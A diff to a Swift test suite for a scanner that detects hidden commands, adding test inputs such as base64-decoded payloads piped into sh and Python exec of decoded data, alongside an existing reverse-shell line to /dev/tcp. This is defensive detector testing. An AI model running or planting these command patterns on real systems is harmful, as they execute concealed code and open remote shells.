@@ -55,6 +55,10 @@ struct HiddenCommandTests {
     ("bash <<< \"$(base64 --decode <<< 'eA==')\"", ["hidden-decoded"]),
     ("x=$(base64 -d <<< eA==)\nsh -s <<< \"$x\"", ["hidden-decoded"]),
     ("bash < <(base64 -d x)", ["hidden-decoded"]),
+    ("bash <<< \"$(echo eA== | base64 -d)\" -s", ["hidden-decoded"]),
+    ("x=`cat <f`; base64 -d y | sh", ["hidden-decoded"]),
+    ("m=$((1<<3))\nbase64 -d y | sh", ["hidden-decoded"]),
+    ("a=(\"(\")\nbase64 -d y | sh", ["hidden-decoded"]),
     ("base64 -d x > run\nsh < run", ["hidden-decoded"]),
     ("read -r a b <<< \"$(uname -sr)\"\nbase64 --decode <<< \"$KEY\" > key; bash run.sh < key", []),
     ("bash -x run.sh <<< \"$(base64 -d x)\"; cat < <(base64 -d x)", []),
@@ -174,10 +178,23 @@ struct HiddenCommandTests {
     ("a.pl", "eval unpack u=>q{_};\n", ["hidden-decoded"]),
     ("a.pl", "my ($a) = unpack('N', $b); eval { die };\n", []),
     ("a.py", "os.system('bash -i >& /dev/tcp/198.51.100.1/9 0>&1')\n", ["hidden-socket"]),
+    ("a.py", "print(\"hello\")\nos.system(\"base64 -d x | sh\")\n", ["hidden-decoded"]),
+    (
+      "a.py", "__import__('builtins').exec(__import__('base64').b64decode('eA=='))\n",
+      ["hidden-decoded"]
+    ),
     ("redir.c", "/* /dev/tcp/host/port */ { \"/dev/tcp/*/*\", RF_DEVTCP },\n", []),
     ("crc.c", "f(int) __attribute__((__ifunc__(\"resolve\")));\n", ["hidden-resolver"]),
     ("crc.c", "#if HAVE_IFUNC\nif (is_ifunc(x)) y();\n", []),
   ]
+
+  /// Each level once: 2^100 steps would not end.
+  @Test func hereStringsInsideOfHereStringsAreReadOnce() throws {
+    let text =
+      "base64 -d<<<x<<<" + String(repeating: "$(a<<<x<<<", count: 100) + "b"
+      + String(repeating: ")", count: 100) + "\n"
+    #expect(try HiddenFiles.rules("a.sh", text) == [])
+  }
 
   @Test(arguments: otherFiles) func anotherFile(name: String, text: String, expected: [String])
     throws
